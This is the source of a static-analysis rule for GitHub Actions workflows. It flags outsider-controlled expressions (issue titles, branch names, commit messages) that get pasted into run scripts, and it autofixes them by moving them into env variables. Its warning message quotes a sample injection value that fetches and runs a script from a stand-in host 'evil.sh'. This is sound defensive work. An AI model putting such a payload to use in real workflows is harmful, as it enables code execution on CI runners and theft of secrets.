/**
 * gha-script-injection: `${{ … }}` expressions that paste outsider-controlled text (issue and
 * PR titles and bodies, branch names, commit messages, comments…) into code the runner
 * executes — `run:` scripts, `actions/github-script` `script:`, `azure/cli` and
 * `azure/powershell` `inlineScript:`. The fix moves the expression into the step's `env:`.
 */
import { defineRule } from '../../engine/rule';
import type { Confidence } from '../../engine/types';
import type { ContextRef, ExpressionSite } from '../../languages/pipelines/expressions';
import { PRIVILEGED_TRIGGERS } from '../../languages/pipelines/githubContexts';
import { taintedRef } from '../../languages/pipelines/ghTaint';
import type { Taint } from '../../languages/pipelines/githubContexts';
import { quotingOf } from '../../languages/pipelines/github';
import type { GhScript, GhStep, GhWorkflow } from '../../languages/pipelines/github';
import { envNameFromPath, moveToEnvEdits } from '../../languages/pipelines/scriptEnv';
import type { EnvLanguage } from '../../languages/pipelines/scriptEnv';

const SINKS: Record<GhScript['kind'], string> = {
  run: 'a `run:` script',
  'github-script': 'the `script` of actions/github-script',
  'azure-cli': 'the `inlineScript` of azure/cli',
  'azure-powershell': 'the `inlineScript` of azure/powershell',
};

function confidenceFor(wf: GhWorkflow, taint: Taint): Confidence {
  if (taint === 'input') return 'low';
  if (wf.kind === 'github-action' || wf.triggers.length === 0) return 'high';
  if (wf.triggers.some((t) => PRIVILEGED_TRIGGERS.has(t.name) || t.name === 'workflow_call')) return 'high';
  return 'medium';
}

function envLanguage(script: GhScript): EnvLanguage | undefined {
  switch (script.language) {
    case 'bash':
    case 'pwsh':
    case 'powershell':
    case 'js':
      return script.language;
    default:
      return undefined;
  }
}

export default defineRule({
  meta: {
    id: 'gha-script-injection',
    description: 'Workflow scripts should not expand outsider-controlled expressions such as issue titles, branch names or commit messages directly into code.',
    category: 'pipeline',
    severity: 'error',
    confidence: 'high',
    appliesTo: ['github-workflow', 'github-action'],
    fixable: 'safe',
    messages: {
      injection:
        '`{{ref}}` is set by whoever opens the issue, pull request, comment or commit, and is pasted into {{sink}} before it runs: a value such as `"; curl evil.sh | sh #` becomes code. Pass it through `env:` and read the variable instead.',
      input:
        '`{{ref}}` (a workflow or action input) is pasted into {{sink}} before it runs; whoever sets the input can inject code. Pass it through `env:` and read the variable instead.',
    },
    tags: ['CWE-94', 'CWE-78'],
    optionsSchema: {
      type: 'object',
      properties: {
        includeInputs: {
          type: 'boolean',
          description: 'Also report `inputs.*`, `github.event.inputs.*` and `github.event.client_payload` (set by people with write access) when the input is not typed boolean, number, choice or environment (default false).',
        },
      },
      additionalProperties: false,
    },
    defaultOptions: { includeInputs: false },
  },
  create(context) {
    const includeInputs = context.options['includeInputs'] === true;
    const text = context.document.text;

    function fixFor(step: GhStep, script: GhScript, hits: readonly { site: ExpressionSite; ref: ContextRef }[]) {
      const language = envLanguage(script);
      if (!language) return [];
      const stepEnv = new Map<string, string>();
      for (const e of step.env) if (e.value) stepEnv.set(e.name, text.slice(e.value.span.start, e.value.span.end));
      const reserved = new Set<string>([...step.job.env.map((e) => e.name), ...step.job.workflow.env.map((e) => e.name)]);
      const edits = moveToEnvEdits({
        text,
        language,
        scriptStart: script.value.span.start,
        scriptEnd: script.value.span.end,
        quoting: quotingOf(script.value.node),
        stepMap: step.node,
        stepEnv,
        reserved,
        sites: hits.map(({ site, ref }) => ({
          start: site.span.start,
          end: site.span.end,
          envValue: `\${{ ${site.inner.trim()} }}`,
          name: envNameFromPath(ref.path),
        })),
      });
      if (!edits) return [];
      let unsafe = false;
      if (script.kind === 'azure-cli') unsafe = true; // azure/cli runs the script in a container: env passing depends on the action version
      if (language === 'bash' && /\b(?:eval|bash\s+-c|sh\s+-c|python3?\s+-c|node\s+-e)\b/.test(script.value.value)) unsafe = true;
      return [{ title: 'Move the untrusted expressions of this step into env variables', edits, safety: unsafe ? ('unsafe' as const) : ('safe' as const) }];
    }

    return {
      ghStep(step) {
        const wf = step.job.workflow;
        for (const script of step.scripts) {
          const hits: { site: ExpressionSite; ref: ContextRef; taint: Taint }[] = [];
          for (const site of script.value.expressions) {
            const t = taintedRef(site, wf, includeInputs);
            if (t) hits.push({ site, ...t });
          }
          if (!hits.length) continue;
          const fixes = fixFor(step, script, hits);
          for (const h of hits) {
            context.report({
              span: h.site.span,
              messageId: h.taint === 'attacker' ? 'injection' : 'input',
              data: { ref: h.ref.raw, sink: SINKS[script.kind] },
              confidence: confidenceFor(wf, h.taint),
              fixes,
            });
          }
        }
      },
    };
  },
});
